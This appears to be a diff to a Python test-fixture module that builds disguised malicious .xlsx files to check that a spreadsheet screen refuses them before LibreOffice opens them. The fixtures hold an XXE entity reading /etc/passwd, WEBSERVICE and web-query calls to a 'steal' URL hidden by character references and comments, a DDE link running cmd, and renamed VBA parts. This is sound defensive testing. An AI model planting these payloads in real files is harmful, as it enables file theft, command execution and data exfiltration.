@@ -62,6 +62,8 @@ def package(
     macro: bool = False,
     compression: int = zipfile.ZIP_DEFLATED,
     drop: tuple[str, ...] = (),
+    overrides: tuple[tuple[str, str], ...] = (),
+    rels: tuple[tuple[str, str, str], ...] = (),
 ) -> Path:
     """Write a minimal .xlsx (or .xlsm with ``macro``) package holding one sheet named "S"."""
     main_type = (
@@ -69,14 +71,18 @@ def package(
         if macro
         else "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
     )
-    overrides = [
-        ("/xl/workbook.xml", main_type),
-        (
-            "/xl/worksheets/sheet1.xml",
-            "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml",
-        ),
-    ]
-    rels = [("rId1", "worksheet", "worksheets/sheet1.xml")]
+
+    def overrides_base():
+        return [
+            ("/xl/workbook.xml", main_type),
+            (
+                "/xl/worksheets/sheet1.xml",
+                "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml",
+            ),
+        ]
+
+    overrides = [*overrides_base(), *overrides]
+    rels = [("rId1", "worksheet", "worksheets/sheet1.xml"), *rels]
     if strings is not None:
         overrides.append(
             (
@@ -114,7 +120,7 @@ def package(
     def rel_type(kind: str) -> str:
         if kind == "vbaProject":
             return "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
-        return f"{REL}/{kind}"
+        return kind if "/" in kind else f"{REL}/{kind}"
 
     wb_rels = (
         f'{XML_DECL}<Relationships xmlns="{PKG_REL}">'
@@ -384,6 +390,145 @@ def formula_text_result(d: Path) -> Path:
     )
 
 
+# --- what the screen must find, however it is disguised (issue 24) ----------------------------
+
+WEB = 'WEBSERVICE("http://127.0.0.1:9/steal")'
+_DOCTYPE = '<!DOCTYPE worksheet [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
+_CT = "application/vnd.openxmlformats-officedocument.spreadsheetml."
+_OK_CELLS = (cell("A1", 2), cell("A2", 4, f="A1*2"))
+
+
+def dtd_after_4k(d: Path) -> Path:
+    """A DTD after a 5,000-character comment: past the first 4 KB of the part."""
+    xml = sheet(*_OK_CELLS).replace(XML_DECL, XML_DECL + "<!--" + "x" * 5000 + "-->" + _DOCTYPE)
+    return package(d / "dtd_late.xlsx", xml)
+
+
+def dtd_utf16_sheet(d: Path) -> Path:
+    """A worksheet in UTF-16 (with its byte-order mark) declaring a DTD."""
+    xml = sheet(*_OK_CELLS).replace(XML_DECL, '<?xml version="1.0" encoding="UTF-16"?>' + _DOCTYPE)
+    return package(d / "dtd_utf16.xlsx", xml.encode("utf-16"))
+
+
+def dtd_utf16_content_types(d: Path) -> Path:
+    """[Content_Types].xml in UTF-16 declaring a DTD (the engine never reads that part)."""
+    path = package(d / "dtd_utf16_types.xlsx", sheet(*_OK_CELLS))
+    with zipfile.ZipFile(path) as z:
+        members = {n: z.read(n) for n in z.namelist()}
+    text = members["[Content_Types].xml"].decode().replace(XML_DECL, "")
+    doc = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE Types [<!ENTITY e "x">]>' + text
+    members["[Content_Types].xml"] = doc.encode("utf-16")
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
+        for name, data in members.items():
+            z.writestr(name, data)
+    return path
+
+
+def cf_char_references(d: Path) -> Path:
+    """WEBSERVICE in a conditional format, its parentheses written as character references."""
+    rule = WEB.replace("(", "&#40;").replace(")", "&#41;").replace('"', "&quot;")
+    cf = (
+        f'<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>{rule}'
+        "</formula></cfRule></conditionalFormatting>"
+    )
+    return package(d / "cf_charref.xlsx", sheet(*_OK_CELLS).replace("</sheetData>", "</sheetData>" + cf))
+
+
+def dv_char_references(d: Path) -> Path:
+    """WEBSERVICE in a data-validation list, its W written as ``&#87;``."""
+    rule = "&#87;" + escape(WEB[1:], {'"': "&quot;"})
+    dv = (
+        f'<dataValidations count="1"><dataValidation type="list" sqref="B1"><formula1>{rule}'
+        "</formula1></dataValidation></dataValidations>"
+    )
+    return package(d / "dv_charref.xlsx", sheet(*_OK_CELLS).replace("</sheetData>", "</sheetData>" + dv))
+
+
+def comment_hides_cf(d: Path) -> Path:
+    """``<!-- sheetData> -->`` after a conditional format: a text cut from the first "sheetData" to
+    the last "sheetData>" would skip the format."""
+    cf = (
+        '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>'
+        f"{escape(WEB)}</formula></cfRule></conditionalFormatting><!-- sheetData> -->"
+    )
+    return package(d / "comment_cut.xlsx", sheet(*_OK_CELLS).replace("</sheetData>", "</sheetData>" + cf))
+
+
+def dde_link_renamed(d: Path) -> Path:
+    """A DDE external link stored as xl/misc/data1.xml, found only by its relationship and type."""
+    link = (
+        f'{XML_DECL}<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/c calc">'
+        '<ddeItems><ddeItem name="A0"/></ddeItems></ddeLink></externalLink>'
+    )
+    return package(
+        d / "dde_renamed.xlsx",
+        sheet(*_OK_CELLS),
+        extra={"xl/misc/data1.xml": link.encode()},
+        overrides=(("/xl/misc/data1.xml", _CT + "externalLink+xml"),),
+        rels=(("rId7", "externalLink", "misc/data1.xml"),),
+    )
+
+
+def vba_renamed(d: Path) -> Path:
+    """A VBA project stored as xl/stuff.dat, found by its relationship and content type."""
+    return package(
+        d / "vba_renamed.xlsm",
+        sheet(*_OK_CELLS),
+        macro=False,
+        extra={"xl/stuff.dat": VBA_BYTES},
+        overrides=(("/xl/stuff.dat", "application/vnd.ms-office.vbaProject"),),
+        rels=(("rId8", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "stuff.dat"),),
+    )
+
+
+def web_query_renamed(d: Path) -> Path:
+    """A web-query data connection stored as xl/misc/c.xml."""
+    conn = (
+        f'{XML_DECL}<connections xmlns="{MAIN}"><connection id="1" name="q" type="4" refreshOnLoad="1">'
+        '<webPr url="http://127.0.0.1:9/steal"/></connection></connections>'
+    )
+    return package(
+        d / "webquery_renamed.xlsx",
+        sheet(*_OK_CELLS),
+        extra={"xl/misc/c.xml": conn.encode()},
+        overrides=(("/xl/misc/c.xml", _CT + "connections+xml"),),
+        rels=(("rId9", "connections", "misc/c.xml"),),
+    )
+
+
+def case_duplicates(d: Path) -> Path:
+    """Two members whose names differ only in case (OPC part names are case-insensitive)."""
+    bad = sheet(cell("A1", 2), cell("A2", f=WEB, v="stored", t="str"))
+    return package(d / "case_dup.xlsx", sheet(*_OK_CELLS), extra={"xl/worksheets/Sheet1.xml": bad.encode()})
+
+
+def quoted_sheet_webservice(d: Path) -> Path:
+    """A quote inside a quoted sheet name before WEBSERVICE: a text match of strings goes astray."""
+    return package(
+        d / "quoted_sheet.xlsx", sheet(cell("A1", 1), cell("A2", "x", f=f"'a\"b'!A2&{WEB}", t="str"))
+    )
+
+
+#: the disguised files: each must be refused by every door that hands a file to LibreOffice
+#: (render, open --convert-to, recalc --engine libreoffice), with this fragment in its one line
+SCREENED = {
+    "dtd_after_4k": (dtd_after_4k, "declares a DTD"),
+    "dtd_utf16_sheet": (dtd_utf16_sheet, "declares a DTD"),
+    "dtd_utf16_content_types": (dtd_utf16_content_types, "declares a DTD"),
+    "cf_char_references": (cf_char_references, "WEBSERVICE (xl/worksheets/sheet1.xml)"),
+    "dv_char_references": (dv_char_references, "WEBSERVICE (xl/worksheets/sheet1.xml)"),
+    "comment_hides_cf": (comment_hides_cf, "WEBSERVICE (xl/worksheets/sheet1.xml)"),
+    "dde_link_renamed": (dde_link_renamed, "external link (DDE) (xl/misc/data1.xml)"),
+    "vba_renamed": (vba_renamed, "macros (VBA project) (xl/stuff.dat)"),
+    "web_query_renamed": (web_query_renamed, "data connection (xl/misc/c.xml)"),
+    "case_duplicates": (
+        case_duplicates,
+        "two parts named xl/worksheets/Sheet1.xml and xl/worksheets/sheet1.xml",
+    ),
+    "quoted_sheet_webservice": (quoted_sheet_webservice, "WEBSERVICE"),
+}
+
+
 def _col(n: int) -> str:
     s = ""
     while n:
@@ -425,4 +570,16 @@ CORPUS: dict[str, Case] = {
     "too_many_parts": Case(too_many_parts, 2, "parts (limit 10000)"),
     "malformed_xml": Case(malformed_xml, 2, "is not well-formed XML"),
     "missing_sheet_part": Case(missing_sheet_part, 2, "points to a missing part"),
+    # the engine computes what it reads; LibreOffice is never given them (SCREENED)
+    "dtd_after_4k": Case(dtd_after_4k, 2, "declares a DTD or entities; refused for safety"),
+    "dtd_utf16_sheet": Case(dtd_utf16_sheet, 2, "declares a DTD or entities; refused for safety"),
+    "dtd_utf16_content_types": Case(dtd_utf16_content_types, 0, "0 cells differ"),
+    "cf_char_references": Case(cf_char_references, 0, "0 cells differ"),
+    "dv_char_references": Case(dv_char_references, 0, "0 cells differ"),
+    "comment_hides_cf": Case(comment_hides_cf, 0, "0 cells differ"),
+    "dde_link_renamed": Case(dde_link_renamed, 0, "0 cells differ"),
+    "vba_renamed": Case(vba_renamed, 0, "0 cells differ"),
+    "web_query_renamed": Case(web_query_renamed, 0, "0 cells differ"),
+    "case_duplicates": Case(case_duplicates, 2, "part names are case-insensitive"),
+    "quoted_sheet_webservice": Case(quoted_sheet_webservice, 2, "unsupported functions or features"),
 }
